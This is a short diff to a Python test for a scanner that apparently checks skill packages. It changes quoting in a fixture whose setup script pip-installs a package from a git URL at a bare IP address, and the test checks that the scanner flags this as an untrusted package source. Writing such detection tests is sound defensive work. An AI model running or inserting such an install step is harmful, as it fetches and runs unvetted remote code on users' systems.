@@ -34,6 +34,6 @@ def test_the_same_shape_with_an_address_is_an_untrusted_source(tmp_path: Path, s
 
 
 def test_a_script_installing_a_vcs_source_with_an_address_is_an_untrusted_source(tmp_path: Path) -> None:
-    script = "#!/bin/sh\nset -e\npip install --user \"git+http://198.51.100.7/pkgs/report.git@main\"\n"
+    script = '#!/bin/sh\nset -e\npip install --user "git+http://198.51.100.7/pkgs/report.git@main"\n'
     files = {"SKILL.md": SKILL_MD + "\nRun `sh scripts/setup.sh` first.\n", "scripts/setup.sh": script}
     assert ("UNTRUSTED_PACKAGE_SOURCE", "scripts/setup.sh", 3) in scan_errors(tmp_path, files)
